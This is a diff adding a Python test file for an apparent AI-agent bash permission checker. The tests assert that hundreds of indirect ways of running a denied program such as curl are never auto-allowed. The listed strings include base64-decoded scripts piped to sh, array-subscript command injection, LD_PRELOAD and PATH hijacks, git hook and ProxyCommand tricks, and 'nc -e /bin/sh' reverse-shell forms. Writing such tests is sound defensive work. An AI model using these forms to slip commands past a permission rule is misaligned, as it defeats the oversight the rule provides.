@@ -1,0 +1,460 @@
+"""A command that may run a denied program unseen is never allowed while a rule for commands denies or asks.
+
+Everything is allowed here but ``curl``, so that nothing but the reading counts.
+"""
+
+from tests.policy.bash.bash_cases import judge_command
+from tests.policy.tables import each_row, split_table
+
+UNKNOWN_INPUT = split_table(r"""
+    echo Y3VybCB4 | base64 -d | sh
+    tr a-z b-za <<< btqk | sh
+    rev <<< 'x lruc' | sh
+    echo 6375726c2078 | xxd -r -p | sh
+    python3 -c 'print("cu"+"rl x")' | sh
+    echo 'curl x' | tee >(sh)
+    tr a b <<< x > >(bash -s)
+    read 'a[$(curl x)]' <<< y
+    bash --init-file <(echo curl x) -i
+    bash --rcfile <(tr a b) -i
+    make -f - <<< 'x: ; curl x'
+    cat secret | bash
+    cat x | { sh; }
+    cat x | (sh)
+    cat x | sudo sh
+    cat x | env sh
+    cat x | xargs -0 sh -c
+    cat x | xargs -I{} sh -c '{}'
+    cat x | xargs -I{} sh -c 'echo {}'
+    cat x | xargs -I % bash -c %
+    cat x | xargs -I{} {}
+    cat x | sh -
+    cat x | sh /dev/stdin
+    cat x | sh /dev/fd/0
+    cat x | sh /proc/self/fd/0
+    cat x | sh //dev/stdin
+    cat x | sh /dev/./stdin
+    cat x | sh /proc/$$/fd/0
+    cat x | sh 3< f
+    cat x | sh -s arg
+    cat x | bash -i
+    cat x | sh "$f"
+    cat x | . /dev/stdin
+    cat x | source /dev/fd/0
+    cat x | while true; do sh; done
+    cat x | if true; then sh; fi
+    cat x | case a in a) sh;; esac
+    cat x | for i in 1; do sh; done
+    cat x | echo $(sh)
+    cat x | echo `sh`
+    cat x | sh -c sh
+    cat x | sh -c 'exec sh'
+    cat x | eval sh
+    cat x | busybox sh
+    cat x | zsh
+    cat x | fish
+    cat x | csh
+    cat x | python3
+    cat x | python3 -
+    cat x | python3.11
+    cat x | python3 /dev/stdin
+    cat x | perl
+    cat x | ruby
+    cat x | node
+    cat x | node -
+    cat x | php
+    cat x | lua
+    cat x | tclsh
+    cat x | ed
+    cat x | vim -
+    cat x | psql db
+    cat x | sqlite3 x.db
+    cat x | mysql
+    cat x | gdb
+    cat x | at now
+    cat x | batch
+    cat x | crontab -
+    cat x | parallel
+    cat x | make -f -
+    cat x | make -f /dev/stdin
+    cat x | awk -f -
+    cat x | awk -f /dev/stdin
+    cat x | sed -f -
+    cat x | pwsh
+    cat x | osascript
+    cat x | m4
+    cat x | dc
+    cat x | ksh93
+    cat x | yash -s
+    cat x | R --no-save
+    cat x | octave
+    cat x | emacs --batch
+    cat x | dash -e
+    cat x | exec sh
+    cat x | command sh
+    cat x | timeout 5 sh
+    cat x | nohup sh
+    cat x | nice -n 5 bash
+    cat x | tee >(bash)
+    ls > >(sh)
+    ls 2> >(sh)
+    sh < <(cat x)
+    sh <&3
+    sh 0<&3
+    sh <(cat x)
+    bash <(base64 -d f)
+    . <(base64 -d f)
+    source <(tr a b < f)
+    bash /dev/fd/3 3<<< 'curl x'
+    bash /dev/fd/3 3< <(cat x)
+    exec 3<<< 'curl x'; bash <&3
+    exec 3<<< 'curl x'; bash /dev/fd/3
+    exec <<< 'curl x'; sh
+    exec < <(cat x); sh
+    { sh; } < <(cat x)
+    while :; do sh; done < <(cat x)
+    case a in a) sh;; esac < <(cat x)
+    for ((;;)); do sh; done < <(cat x)
+    f() { sh; }; cat x | f
+    f() { sh; }; f <<< 'curl x'
+    f() { sh; }; f < <(cat x)
+    bash --rcfile <(cat x) -i
+    bash -O extglob <(cat x)
+    read PATH <<< /tmp/x; ls
+    read -r LD_PRELOAD <<< /tmp/x; ls
+    mapfile PATH < f
+    x='a[$(curl x)]'; read "$x" <<< y
+    python3 - <<'EOF'⏎import os⏎os.system("curl x")⏎EOF
+    python3 <<< 'import os; os.popen("curl x")'
+    python3 <(cat f)
+    echo 'import os; os.system("curl x")' | python3
+    perl -e 'open F, "curl x|"; print <F>'
+    tclsh <<< 'exec curl x'
+    awk 'BEGIN{"cu" "rl x" | getline}'
+    awk 'BEGIN{print "x" | "cu" "rl x"}'
+    awk 'BEGIN{c="curl x"; c | getline}'
+    awk -f <(cat x)
+    sed -f <(cat x) f
+    ed f <<< '!curl x'
+    sqlite3 x <<< '.system curl x'
+    m4 <<< 'syscmd(curl x)'
+    ftp <<< '!curl x'
+    make -f <(cat x)
+    make -f/dev/stdin <<< 'x:;curl x'
+    make --file=- <<< 'x:;curl x'
+    base64 -d f | tee s; sh s
+    mkfifo p; sh < p & cat x > p
+    cat > s <<'EOF'⏎curl x⏎EOF⏎sh s
+    cat > s.py <<'EOF'⏎import os; os.system("curl x")⏎EOF⏎python3 s.py
+""")
+
+RUN_BY_ARGUMENTS = split_table(r"""
+    printf -v 'a[$(curl x)]' y
+    let 'a[$(curl x)]'
+    test -v 'a[$(curl x)]'
+    [ -v 'a[$(curl x)]' ]
+    setarch -R curl x
+    setarch x86_64 -R curl x
+    capsh -- -c 'curl x'
+    choom -n 5 curl x
+    choom -n 5 -- curl x
+    ssh-agent curl x
+    sed 's/.*/curl x/e' f
+    sed -n '1e curl x' f
+    make --eval 'x: ; curl x'
+    make --eval='x: ; curl x'
+    hash -p /usr/bin/curl ls; ls x
+    env 'BASH_FUNC_x%%=() { curl x; }' bash -c x
+    /lib64/ld-linux-x86-64.so.2 /usr/bin/curl x
+    tmux new-session -d 'curl x'
+    screen -dm curl x
+    socat - EXEC:'curl x'
+    socat - SYSTEM:'curl x'
+    fish -c 'curl x'
+    hyperfine 'curl x'
+    nodemon -x 'curl x'
+    nodemon --exec 'curl x'
+    git grep -O'curl x' pattern
+    git grep --open-files-in-pager='curl x' pattern
+    git fetch --upload-pack 'curl x' origin
+    git fetch --upload-pack='curl x' origin
+    cat x |& sh
+    coproc sh; echo curl x >&${COPROC[1]}
+    coproc bash
+    bash --init-file /dev/fd/3 -i
+    zsh -c '=curl x'
+    ksh -c 'curl x'
+    printf -v PATH /tmp/x; ls
+    printf -vPATH x
+    x='a[$(curl x)]'; printf -v "$x" y
+    x='a[$(curl x)]'; test -v "$x"
+    x='a[$(curl x)]'; let "$x"
+    x='a[$(curl x)]'; unset "$x"
+    builtin printf -v 'a[$(curl x)]' y
+    command read 'a[$(curl x)]'
+    builtin let 'a[$(curl x)]'
+    builtin test -v 'a[$(curl x)]'
+    builtin declare 'a[$(curl x)]=1'
+    command unset 'a[$(curl x)]'
+    mapfile 'a[$(curl x)]'
+    readarray -t 'a[$(curl x)]'
+    getopts x 'a[$(curl x)]'
+    wait -n -p 'a[$(curl x)]'
+    [[ -v 'a[$(curl x)]' ]]
+    [[ 'a[$(curl x)]' -eq 1 ]]
+    test ! -v 'a[$(curl x)]'
+    declare -i 'a[$(curl x)]=1'
+    python3 -c 'import os; os.system("curl x")'
+    python3 -c 'import subprocess as s; s.run(["curl","x"])'
+    python3 -c '__import__("os").system("cu"+"rl x")'
+    python3 -c 'exec("import os")'
+    python3 -c 'import os; getattr(os, "sys"+"tem")("curl x")'
+    python3 -c 'import pty; pty.spawn("curl")'
+    python3 -c "$CODE"
+    python3 -c "$(cat f)"
+    python3 -c "import os; os.execlp('curl','curl','x')"
+    python3 -c "import os; os.posix_spawn('/usr/bin/curl',['curl'],{})"
+    python3 -Ic 'import os; os.system("curl x")'
+    python3 -W ignore -c 'import os; os.system("curl x")'
+    python3 -m timeit 'import os; os.system("curl x")'
+    pypy3 -c 'import os; os.system("curl x")'
+    perl -e 'system("curl x")'
+    perl -e '`curl x`'
+    perl -e 'exec "curl", "x"'
+    perl -ne 'print `curl x`' f
+    perl -pe 's/x/`curl x`/e' f
+    perl -we 'qx(curl x)'
+    ruby -e 'system "curl x"'
+    ruby -e '`curl x`'
+    ruby -e '%x(curl x)'
+    ruby -e 'exec "curl"'
+    ruby -e 'IO.popen("curl x")'
+    ruby -e 'open("|curl x")'
+    node -e 'require("child_process").execSync("curl x")'
+    node -p 'require("child_"+"process")'
+    node --eval='require("child_process")'
+    node --eval 'process.binding("spawn_sync")'
+    bun -e 'Bun.spawn(["curl"])'
+    deno eval 'new Deno.Command("curl")'
+    php -r 'system("curl x");'
+    php -r '$f="sys"."tem"; $f("curl x");'
+    php -r 'echo `curl x`;'
+    lua -e 'os.execute("curl x")'
+    lua -e 'io.popen("curl x")'
+    expect -c 'spawn curl x'
+    osascript -e 'do shell script "curl x"'
+    Rscript -e 'system("curl x")'
+    julia -e 'run(`curl x`)'
+    erl -noshell -eval 'os:cmd("curl x")'
+    elixir -e 'System.cmd("curl", ["x"])'
+    ghc -e 'System.Process.callCommand "curl x"'
+    groovy -e '"curl x".execute()'
+    emacs --batch --eval '(shell-command "curl x")'
+    guile -c '(system "curl x")'
+    swipl -g 'shell("curl x")'
+    octave --eval 'system("curl x")'
+    gnuplot -e 'system("curl x")'
+    awk 'BEGIN{system("curl x")}'
+    awk 'BEGIN{c="cu" "rl x"; system(c)}'
+    gawk '@load "x"; BEGIN{}'
+    gawk 'BEGIN{f="system"; @f("curl x")}'
+    awk "$P" f
+    sed "$P" f
+    sed '1e' f
+    sed 's/a/curl x/ge' f
+    sed -e 's/a/curl x/e' f
+    sed --expression='s/a/curl x/e' f
+    sed -n 's/a/curl x/pe;p' f
+    sed 'e curl x' f
+    sed '$!e curl x' f
+    vim -c '!curl x' f
+    vim -es -c 'call system("curl x")' -c q
+    vim +'!curl x'
+    ex -c '!curl x'
+    sqlite3 x '.shell curl x'
+    psql -c '\! curl x'
+    psql -c "copy t from program 'curl x'"
+    psql -c '\! cu''rl x'
+    mysql -e '\! curl x'
+    mysql -e 'system curl x'
+    gdb -ex 'shell curl x' -ex q
+    gdb -batch -ex '!curl x'
+    dc -e '!curl x'
+    make 'X=$(shell curl x)'
+    make SHELL=/tmp/x
+    make --eval='$(shell curl x)'
+    just --shell curl
+    just -c 'curl x'
+    mvn exec:exec -Dexec.executable=curl
+    rake -e 'sh "curl x"'
+    ninja -f /dev/stdin
+    hash -p /tmp/x ls; ls
+    enable -f ./x.so ls
+    bind -x '"a":curl x'
+    fc -s curl
+    env PATH=/tmp/x ls
+    env LD_PRELOAD=./x.so ls
+    env BASH_ENV=f bash -c ls
+    env -S 'PATH=/tmp/x ls'
+    sudo LD_PRELOAD=x ls
+    env GIT_SSH_COMMAND='curl x' git fetch
+    env "PATH=$X" ls
+    nice env PATH=/x ls
+    timeout 5 env GIT_PAGER=curl git log
+    ld.so /usr/bin/curl x
+    /lib/ld-linux.so.2 --preload x /usr/bin/curl x
+    /lib/ld-musl-x86_64.so.1 /usr/bin/curl x
+    tmux new-session -d "cu""rl x"
+    tmux send-keys -t x 'cu' 'rl x' Enter
+    tmux neww curl x
+    tmux run-shell 'curl x'
+    tmux split-window $X
+    screen -S x -X stuff 'curl x'
+    screen curl x
+    dtach -n s curl x
+    zellij run -- curl x
+    xterm -e curl x
+    gnome-terminal -- curl x
+    socat TCP:x EXEC:sh
+    nc -e /bin/sh x 1
+    ncat --sh-exec 'curl x' h 1
+    ncat -c 'curl x' h 1
+    watchexec curl x
+    watchexec -- curl x
+    entr -s 'curl x'
+    reflex -- curl x
+    concurrently 'curl x'
+    chokidar '*' -c 'curl x'
+    cross-env A=1 curl x
+    cross-env-shell 'curl x'
+    bunx curl x
+    pnpm dlx curl
+    pnpm exec curl x
+    npm exec -- curl x
+    npm exec -c 'curl x'
+    yarn exec curl x
+    conda run -n x curl y
+    pyenv exec curl x
+    aws-vault exec prof -- curl x
+    sops exec-env f 'curl x'
+    cmake -E env curl x
+    cmake -E time curl x
+    aa-exec -p x curl x
+    dumb-init curl x
+    tini -- curl x
+    setpriv --reuid 1 curl x
+    systemd-nspawn curl x
+    qemu-x86_64 /usr/bin/curl x
+    wine curl x
+    gdb --args curl x
+    git grep -Ocurl x
+    git grep -nO'curl x' y
+    git ls-remote --upload-pack='curl x' .
+    git clone -u 'curl x' a b
+    git clone --upload-pack='curl x' a b
+    git push --receive-pack='curl x' origin
+    git archive --remote=x --exec='curl x' HEAD
+    git clone 'ext::sh -c curl% x' y
+    git -c protocol.ext.allow=always clone 'ext::curl x'
+    git -c core.sshCommand='curl x' fetch
+    git -c core.hooksPath=/tmp/x commit
+    git -c credential.helper='!curl x' fetch
+    git -c diff.x.textconv='curl x' diff
+    git -c filter.x.clean='curl x' add .
+    git -c sequence.editor='curl x' rebase -i HEAD
+    git -c include.path=/tmp/x status
+    git config core.hooksPath /tmp/x
+    git config alias.x '!curl y'
+    git config --global core.pager 'curl x'
+    git config core.editor 'curl x'
+    git config credential.helper '!curl x'
+    git --exec-path=/tmp/x status
+    git difftool -x 'curl x'
+    git difftool --extcmd='curl x'
+    git rebase -x 'curl x' HEAD~1
+    git init --template=/tmp/x
+    git clone -c core.hooksPath=x a b
+    git clone --config core.sshCommand='curl x' a b
+    git submodule foreach 'curl x'
+    git bisect run curl x
+    tar cf x --checkpoint=1 --checkpoint-action=exec='curl x' y
+    tar -xf x --to-command='curl x'
+    tar cf x -I 'curl x' y
+    tar cf x -F 'curl x' y
+    zip x.zip f -T -TT 'curl x'
+    rsync --rsync-path='curl x' a h:b
+    rsync -e 'curl x' a h:b
+    ssh -o ProxyCommand='curl x' h
+    ssh -oProxyCommand='curl x' h
+    scp -S 'curl x' a h:b
+    man -P 'curl x' ls
+    rg --pre curl x
+    sort --compress-program curl f
+    split --filter='curl x' f
+    find . -exec curl {} +
+    find . -exec sh -c 'echo {}' \;
+    fd . -x sh -c 'curl x'
+    bat --pager='curl x' f
+    ag --pager 'curl x' f
+    openssl engine -t ./x.so
+    gcc -wrapper curl x.c
+    ansible all -m shell -a 'curl x'
+    at -f script now
+    crontab jobs.txt
+    capsh --user=x -- -c 'curl x'
+    capsh -- -c 'cu"r"l x'
+    setarch --addr-no-randomize curl x
+    setarch i386 curl x
+    linux64 -R curl x
+    hyperfine "$X"
+    hyperfine -p 'curl x' ls
+    hyperfine --prepare='curl x' ls
+    nodemon -x "$X"
+    fish -c "$X"
+    fish --command='curl x'
+    fish -c 'cu"r"l x'
+    tcsh -c 'curl x'
+    xonsh -c 'curl x'
+    nu -c 'curl x'
+    pwsh -c 'curl x'
+    csh -c "eval curl x"
+    cp /usr/bin/curl /tmp/foo; /tmp/foo x
+    ln -s /usr/bin/curl foo; ./foo x
+    printf 'cu%s x' rl > s; sh s
+    base64 -d f > s; bash s
+    base64 -d f > s; . ./s
+    base64 -d f > s.py; python3 s.py
+    base64 -d f > s; chmod +x s; ./s
+    echo 'curl x' > s && bash ./s
+    alias ls='cu""rl'; ls
+    parallel {} ::: 'curl x'
+    parallel -j1 sh -c {} ::: 'curl x'
+    trap "$X" EXIT
+    eval "$X"
+    PS4='$(curl x)'; set -x; ls
+    PROMPT_COMMAND='curl x'
+""")
+
+
+@each_row([*UNKNOWN_INPUT, *RUN_BY_ARGUMENTS])
+def test_what_may_run_a_denied_program_is_not_allowed(command: str) -> None:
+    assert judge_command(command, allow=[None], deny=["curl:*"]).decision != "allow"
+    assert judge_command(command, allow=[None], ask=["curl:*"]).decision != "allow"
+
+
+@each_row(["cat x | sh", "base64 -d f | bash", "python3 -c 'import os; os.system(x)'", "make --eval x", "tmux new x"])
+def test_without_a_rule_that_restricts_commands_it_is_allowed(command: str) -> None:
+    assert judge_command(command, allow=[None]).decision == "allow"
+
+
+def test_an_exact_rule_allows_arguments_that_run_something_but_never_an_unknown_input() -> None:
+    code = "python3 -c 'import os; os.system(x)'"
+    assert judge_command(code, allow=["python3:*"], deny=["curl:*"]).decision == "ask"
+    assert judge_command(code, allow=[code], deny=["curl:*"]).decision == "allow"
+    assert judge_command("cat x | sh", allow=["cat x", "sh"], deny=["curl:*"]).decision == "ask"
+
+
+def test_the_reason_names_what_is_not_known() -> None:
+    found = judge_command("base64 -d f | sh", allow=[None], deny=["curl:*"])
+    assert (found.decision, found.layer) == ("ask", "syntax")
+    assert found.reason == ("sh, from its input: the script it runs is not known beforehand, and a rule may deny it")
